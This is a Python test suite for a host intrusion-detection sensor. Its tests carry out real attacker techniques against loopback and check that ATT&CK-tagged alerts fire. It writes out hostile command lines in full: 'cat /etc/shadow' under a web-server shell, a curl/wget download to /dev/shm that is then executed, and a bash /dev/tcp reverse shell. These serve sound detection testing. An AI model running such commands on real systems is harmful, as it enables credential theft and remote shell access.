"""What an intruder does first, done for real: the default rules raise the right alert within two seconds."""

from __future__ import annotations

import contextlib
import http.server
import os
import pwd
import shutil
import socket
import subprocess
import threading
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.live.harness import Document, Sensor, action, get

ALERT_SECONDS = 2.0


def _alert(sensor: Sensor, since: int, technique: str, check: Callable[[Document], bool], what: str) -> Document:
    """The first alert for an ATT&CK technique that passes *check*, complete as an alert must be."""
    found = sensor.wait_for(
        lambda d: get(d, "event.kind") == "alert" and technique in get(d, "threat.technique.id", ()) and check(d),
        since,
        ALERT_SECONDS,
        f"alert {technique}: {what}",
    )
    assert get(found, "rule.id")
    assert get(found, "rule.name")
    assert get(found, "rule.level") in ("low", "medium", "high", "critical")
    assert get(found, "rule.description")
    assert get(found, "user.name") == "root"
    assert get(found, "user.id") == "0"
    assert get(found, "process.entity_id")
    assert get(found, "process.parent.entity_id")
    cause = [
        d
        for d in sensor.documents()[since:]
        if get(d, "event.kind") == "event" and get(d, "event.id") == get(found, "event.id")
    ]
    assert len(cause) == 1
    assert action(cause[0]) == action(found)
    return found


@pytest.fixture
def since(sensor: Sensor) -> int:
    return len(sensor.documents())


@contextlib.contextmanager
def _kept_away(path: Path) -> Iterator[Path]:
    """A path in a system directory that is there only meanwhile; so are directories made for it."""
    made = []
    parent = path.parent
    while not parent.exists():
        made.append(parent)
        parent = parent.parent
    path.parent.mkdir(parents=True, exist_ok=True)
    try:
        yield path
    finally:
        path.unlink(missing_ok=True)
        for directory in made:
            directory.rmdir()


def test_shadow_read_below_a_web_server_alerts_with_the_whole_chain(sensor: Sensor, since: int, place: Path) -> None:
    """A shell started by nginx, and /etc/shadow opened below it."""
    nginx = place / "nginx"
    shutil.copy("/bin/bash", nginx)
    server = subprocess.Popen([nginx, "-c", "sh -c 'cat /etc/shadow'; true"], stdout=subprocess.DEVNULL)
    assert server.wait() == 0
    shell = _alert(
        sensor,
        since,
        "T1505.003",
        lambda d: action(d) == "process-exec" and get(d, "process.parent.pid") == server.pid,
        "a shell below nginx",
    )
    assert get(shell, "process.name") == "sh"
    assert get(shell, "process.args") == ["sh", "-c", "cat /etc/shadow"]
    assert get(shell, "process.parent.executable") == str(nginx)
    read = _alert(
        sensor,
        since,
        "T1003.008",
        lambda d: action(d) == "file-open" and str(nginx) in get(d, "process.ancestors", ()),
        "/etc/shadow read below nginx",
    )
    assert get(read, "file.path") == "/etc/shadow"
    assert get(read, "process.name") == "cat"
    assert get(read, "process.command_line") == "cat /etc/shadow"


@pytest.mark.parametrize("tool", ["curl", "wget"])
def test_program_downloaded_to_shared_memory_and_executed_alerts(
    sensor: Sensor, since: int, place: Path, tool: str
) -> None:
    """Fetched from a web server on loopback into /dev/shm, made executable, run."""
    if shutil.which(tool) is None:
        pytest.skip(f"{tool} is not installed")
    shutil.copy("/bin/true", place / "tool")
    target = Path("/dev/shm") / f"sensor-test-{uuid.uuid4().hex[:8]}"

    class Handler(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *arguments: object) -> None:
            super().__init__(*arguments, directory=str(place))  # type: ignore[arg-type]

        def log_message(self, format: str, *arguments: object) -> None:  # noqa: A002
            """Silence."""

    fetch = {"curl": "curl -s -o", "wget": "wget -q -O"}[tool]
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            url = f"http://127.0.0.1:{server.server_port}/tool"
            line = f"{fetch} {target} {url} && chmod +x {target} && {target} run"
            shell = subprocess.Popen(["/bin/sh", "-c", f"{line}; true"])
            assert shell.wait() == 0
        finally:
            server.shutdown()
            thread.join()
            target.unlink(missing_ok=True)
    found = _alert(
        sensor,
        since,
        "T1059",
        lambda d: action(d) == "process-exec" and get(d, "process.executable") == str(target),
        "a program in /dev/shm",
    )
    assert get(found, "process.args") == [str(target), "run"]
    assert get(found, "process.parent.pid") == shell.pid
    assert get(found, "process.parent.command_line") == f"/bin/sh -c {line}; true"


def test_file_written_to_cron_d_alerts(sensor: Sensor, since: int) -> None:
    """A comment only: cron has nothing to do with it."""
    with _kept_away(Path("/etc/cron.d") / f"sensor-test-{uuid.uuid4().hex[:8]}") as path:
        shell = subprocess.Popen(["/bin/sh", "-c", f"echo '# nothing' > {path}"])
        assert shell.wait() == 0
        found = _alert(sensor, since, "T1053.003", lambda d: get(d, "file.path") == str(path), "cron")
    assert action(found) == "file-open"
    assert "creation" in get(found, "event.type")
    assert get(found, "process.pid") == shell.pid
    assert get(found, "process.parent.pid") == os.getpid()


def test_ssh_key_read_by_cat_alerts(sensor: Sensor, since: int) -> None:
    """The private key of root, read by a program that is no ssh client."""
    home = Path(pwd.getpwuid(0).pw_dir)
    with _kept_away(home / ".ssh" / f"id_test_{uuid.uuid4().hex[:8]}") as path:
        path.write_text("no key\n")
        reader = subprocess.Popen(["/bin/cat", path], stdout=subprocess.DEVNULL)
        assert reader.wait() == 0
        found = _alert(sensor, since, "T1552.004", lambda d: get(d, "process.pid") == reader.pid, "ssh key")
    assert action(found) == "file-open"
    assert get(found, "file.path") == str(path)
    assert get(found, "process.executable") == "/bin/cat"
    assert get(found, "process.parent.pid") == os.getpid()


def test_shell_joined_to_a_socket_alerts(sensor: Sensor, since: int) -> None:
    """bash connects to a listener on loopback and hands the socket to a shell."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        line = f"exec 3<>/dev/tcp/127.0.0.1/{port}; sh -i <&3 >&3 2>&3"
        shell = subprocess.Popen(["/bin/bash", "-c", line], stdin=subprocess.DEVNULL)
        connection, _ = listener.accept()
        with connection:
            connection.sendall(b"exit\n")
            shell.wait()
    found = _alert(sensor, since, "T1059.004", lambda d: get(d, "process.pid") == shell.pid, "reverse shell")
    assert get(found, "process.parent.pid") == os.getpid()
    connect = sensor.wait_for(
        lambda d: action(d) == "network-connect" and get(d, "process.pid") == shell.pid,
        since,
        ALERT_SECONDS,
        "the connect",
    )
    assert get(connect, "destination.ip") == "127.0.0.1"
    assert get(connect, "destination.port") == port
    assert get(connect, "event.result") == 0
    assert get(connect, "process.command_line") == f"/bin/bash -c {line}"


def test_bare_connect_of_a_shell_to_loopback_alerts(sensor: Sensor, since: int) -> None:
    """Only the socket, no redirection on the command line: the connect itself is what a shell does not do."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        shell = subprocess.Popen(["/bin/bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}"])
        assert shell.wait() == 0
    found = sensor.wait_for(
        lambda d: get(d, "event.kind") == "alert" and get(d, "process.pid") == shell.pid,
        since,
        ALERT_SECONDS,
        "an alert for a shell that connects",
    )
    assert get(found, "user.name") == "root"


def test_everyday_commands_raise_no_alert(sensor: Sensor, since: int, place: Path) -> None:
    """Listing, copying, searching and archiving in a temporary directory is nobody's attack."""
    script = "ls -la /; cp /etc/hostname copy; grep -r root copy; tar cf a.tar copy; sort copy; date; id"
    shell = subprocess.Popen(["/bin/sh", "-c", script], cwd=place, stdout=subprocess.DEVNULL)
    shell.wait()
    sensor.settle(since)
    own = [d for d in sensor.documents()[since:] if shell.pid in (get(d, "process.pid"), get(d, "process.parent.pid"))]
    assert len([d for d in own if action(d) == "process-exec"]) >= 7
    assert [get(d, "rule.name") for d in own if get(d, "event.kind") == "alert"] == []
